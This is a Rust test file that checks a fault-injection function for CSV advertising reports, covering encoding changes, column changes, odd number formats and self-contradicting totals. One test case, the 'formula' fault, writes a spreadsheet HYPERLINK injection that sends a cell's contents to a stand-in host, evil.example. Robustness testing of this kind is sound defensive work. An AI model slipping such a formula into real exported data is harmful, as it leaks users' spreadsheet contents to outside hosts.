//! Every shape does what its name says, and nothing else.

use expect_test::{Expect, expect};
use serde_json::{Value, json};

use super::distort;
use crate::faults::FileFault;

const FILE: &str = "Date,Advertiser ID,Line Item,Impressions,Revenue (Adv Currency)\n\
2026/07/01,7,\"a, \"\"b\"\"\nc\",1234,10.500000\n\
2026/07/02,7,d,0,2.250000\n\
,,,1234,12.750000\n\
\n\
Report Time:,2026/07/20 14:14 GMT\n\
Date Range:,2026/07/01 to 2026/07/02\n\
Group By:,Date\n\
Group By:,Line Item\n";

fn distorted(kind: Value) -> Vec<u8> {
    let fault: FileFault = serde_json::from_value(kind).unwrap();
    distort(FILE.to_owned(), 3, &[fault])
}

fn check(kind: Value, expected: Expect) {
    let bytes = distorted(kind);
    let text = String::from_utf8(bytes).unwrap();
    let lines = |text: &str| text.lines().map(str::to_owned).collect::<Vec<_>>();
    let (before, after) = (lines(FILE), lines(&text));
    let mut shown = String::new();
    for line in before.iter().filter(|line| !after.contains(line)) {
        shown.push_str(&format!("-{line}\n"));
    }
    for line in after.iter().filter(|line| !before.contains(line)) {
        shown.push_str(&format!("+{line}\n"));
    }
    shown.push_str(&format!("{} lines", after.len()));
    expected.assert_eq(&shown);
}

#[test]
fn without_a_fault_the_file_is_what_it_was() {
    assert_eq!(distort(FILE.to_owned(), 3, &[]), FILE.as_bytes());
    let harmless = distort(FILE.to_owned(), 3, &[FileFault::Nul, FileFault::Bom]);
    assert!(harmless.starts_with(b"\xef\xbb\xbfDate,"));
    let same = FileFault::RenamedHeader {
        from: "Nothing".to_owned(),
        to: "Else".to_owned(),
    };
    assert_eq!(distort(FILE.to_owned(), 3, &[same]), FILE.as_bytes());
}

#[test]
fn bytes_are_changed_where_cells_are_not() {
    let crlf = distorted(json!("crlf"));
    assert_eq!(crlf.iter().filter(|byte| **byte == b'\r').count(), 10);
    assert!(String::from_utf8(distorted(json!("latin1"))).is_err());
    assert!(distorted(json!("html")).starts_with(b"<!DOCTYPE"));
    assert!(distorted(json!("nul")).contains(&0));
    let long = distorted(json!({"long_line": {"bytes": 5_000}}));
    assert!(long.len() > 5_000);
}

#[test]
fn columns_come_go_and_change_their_names() {
    check(
        json!({"renamed_header": {"from": "Impressions", "to": "Imps"}}),
        expect![[r#"
        -Date,Advertiser ID,Line Item,Impressions,Revenue (Adv Currency)
        +Date,Advertiser ID,Line Item,Imps,Revenue (Adv Currency)
        10 lines"#]],
    );
    check(
        json!({"extra_column": {"header": "Clicks"}}),
        expect![[r#"
        -Date,Advertiser ID,Line Item,Impressions,Revenue (Adv Currency)
        -c",1234,10.500000
        -2026/07/02,7,d,0,2.250000
        -,,,1234,12.750000
        +Date,Advertiser ID,Line Item,Impressions,Revenue (Adv Currency),Clicks
        +c",1234,10.500000,0
        +2026/07/02,7,d,0,2.250000,0
        +,,,1234,12.750000,0
        10 lines"#]],
    );
    check(
        json!({"missing_column": {"header": "Impressions"}}),
        expect![[r#"
        -Date,Advertiser ID,Line Item,Impressions,Revenue (Adv Currency)
        -c",1234,10.500000
        -2026/07/02,7,d,0,2.250000
        -,,,1234,12.750000
        +Date,Advertiser ID,Line Item,Revenue (Adv Currency)
        +c",10.500000
        +2026/07/02,7,d,2.250000
        +,,,12.750000
        10 lines"#]],
    );
    check(
        json!({"retyped_column": {"header": "Impressions"}}),
        expect![[r#"
        -c",1234,10.500000
        -2026/07/02,7,d,0,2.250000
        +c",plenty,10.500000
        +2026/07/02,7,d,plenty,2.250000
        10 lines"#]],
    );
    check(
        json!("shuffled_columns"),
        expect![[r#"
        -Date,Advertiser ID,Line Item,Impressions,Revenue (Adv Currency)
        -2026/07/01,7,"a, ""b""
        -c",1234,10.500000
        -2026/07/02,7,d,0,2.250000
        -,,,1234,12.750000
        +Advertiser ID,Line Item,Date,Revenue (Adv Currency),Impressions
        +7,"a, ""b""
        +c",2026/07/01,10.500000,1234
        +7,d,2026/07/02,2.250000,0
        +,,,12.750000,1234
        10 lines"#]],
    );
    let many = distorted(json!({"many_columns": {"count": 3_000}}));
    let header = String::from_utf8(many).unwrap();
    assert_eq!(header.lines().next().unwrap().split(',').count(), 3_005);
}

#[test]
fn figures_are_written_in_every_way_met() {
    check(
        json!("thousands"),
        expect![[r#"
        -c",1234,10.500000
        -,,,1234,12.750000
        +c","1,234",10.500000
        +,,,"1,234",12.750000
        10 lines"#]],
    );
    check(
        json!("dashes"),
        expect![[r#"
        -2026/07/02,7,d,0,2.250000
        +2026/07/02,7,d,-,2.250000
        10 lines"#]],
    );
    check(
        json!({"censored": {"header": "Impressions"}}),
        expect![[r#"
            -2026/07/02,7,d,0,2.250000
            -,,,1234,12.750000
            +2026/07/02,7,d,< 1000,2.250000
            +,,,,12.750000
            10 lines"#]],
    );
    check(
        json!("iso_dates"),
        expect![[r#"
        -2026/07/01,7,"a, ""b""
        -2026/07/02,7,d,0,2.250000
        +2026-07-01,7,"a, ""b""
        +2026-07-02,7,d,0,2.250000
        10 lines"#]],
    );
    check(
        json!("unknown"),
        expect![[r#"
        -2026/07/01,7,"a, ""b""
        -c",1234,10.500000
        +2026/07/01,7,Unknown,1234,10.500000
        9 lines"#]],
    );
    check(
        json!("formula"),
        expect![[r#"
        -2026/07/01,7,"a, ""b""
        -c",1234,10.500000
        +2026/07/01,7,"=HYPERLINK(""http://evil.example/?""&A1)",1234,10.500000
        9 lines"#]],
    );
    check(
        json!("blank_first_dimension"),
        expect![[r#"
        -2026/07/01,7,"a, ""b""
        +,7,"a, ""b""
        10 lines"#]],
    );
}

#[test]
fn a_file_can_disagree_with_itself() {
    check(
        json!("wrong_totals"),
        expect![[r#"
        -,,,1234,12.750000
        +,,,1235,12.750000
        10 lines"#]],
    );
    check(
        json!("wrong_dates"),
        expect![[r#"
        -Date Range:,2026/07/01 to 2026/07/02
        +Date Range:,2001/01/01 to 2001/01/07
        10 lines"#]],
    );
    check(
        json!("wrong_groups"),
        expect![[r#"
        -Group By:,Date
        9 lines"#]],
    );
    check(
        json!("no_footer"),
        expect![[r#"
        -
        -Report Time:,2026/07/20 14:14 GMT
        -Date Range:,2026/07/01 to 2026/07/02
        -Group By:,Date
        -Group By:,Line Item
        5 lines"#]],
    );
    check(
        json!("no_totals"),
        expect![[r#"
        -,,,1234,12.750000
        9 lines"#]],
    );
    check(json!({"duplicate_rows": {}}), expect!["12 lines"]);
}

#[test]
fn a_file_can_agree_with_itself_and_be_wrong() {
    check(
        json!({"duplicate_rows": {"counted": true}}),
        expect![[r#"
        -,,,1234,12.750000
        +,,,2468,23.250000
        12 lines"#]],
    );
    check(
        json!({"missing_days": {"days": 1}}),
        expect![[r#"
        -2026/07/02,7,d,0,2.250000
        -,,,1234,12.750000
        +,,,1234,10.500000
        9 lines"#]],
    );
    check(
        json!("missing_advertiser"),
        expect![[r#"
        -2026/07/01,7,"a, ""b""
        -c",1234,10.500000
        -2026/07/02,7,d,0,2.250000
        -,,,1234,12.750000
        +No data returned by the reporting service.
        7 lines"#]],
    );
    check(
        json!("foreign_rows"),
        expect![[r#"
        -,,,1234,12.750000
        +2026/07/01,999999999,"a, ""b""
        +,,,2468,23.250000
        12 lines"#]],
    );
    check(
        json!("empty"),
        expect![[r#"
        -2026/07/01,7,"a, ""b""
        -c",1234,10.500000
        -2026/07/02,7,d,0,2.250000
        -,,,1234,12.750000
        +No data returned by the reporting service.
        7 lines"#]],
    );
    check(
        json!({"zero_column": {"header": "Revenue (Adv Currency)"}}),
        expect![[r#"
        -c",1234,10.500000
        -2026/07/02,7,d,0,2.250000
        -,,,1234,12.750000
        +c",1234,0.000000
        +2026/07/02,7,d,0,0.000000
        +,,,1234,0.000000
        10 lines"#]],
    );
}
